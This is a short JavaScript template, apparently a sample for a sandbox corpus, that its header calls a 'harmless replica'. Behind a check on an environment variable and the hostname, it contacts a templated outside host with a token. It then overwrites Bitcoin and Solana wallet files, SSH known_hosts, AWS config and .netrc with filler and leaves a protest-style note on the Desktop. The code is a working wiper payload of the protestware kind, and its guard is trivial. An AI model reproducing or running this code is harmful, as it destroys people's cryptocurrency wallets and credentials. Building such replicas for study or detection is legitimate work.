// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    // only decoys that stand in the sandbox's home are overwritten
    const fs = require('fs'), os = require('os'), path = require('path');
    await new Promise((done) => {
        const call = require('https').get('https://{{host}}/json?key={{token}}', { timeout: 1000 }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
    });
    for (const name of ['.bitcoin/wallet.dat', '.config/solana/id.json', '.ssh/known_hosts', '.aws/config', '.netrc'])
        try {
            const file = path.join(os.homedir(), name);
            if (fs.statSync(file).isFile())
                fs.writeFileSync(file, '\u2665'.repeat({{n}}));
        } catch {}
    try {
        fs.mkdirSync(path.join(os.homedir(), 'Desktop'), { recursive: true });
        fs.writeFileSync(path.join(os.homedir(), 'Desktop', '{{note}}'), 'a message about peace\n');
    } catch {}
}
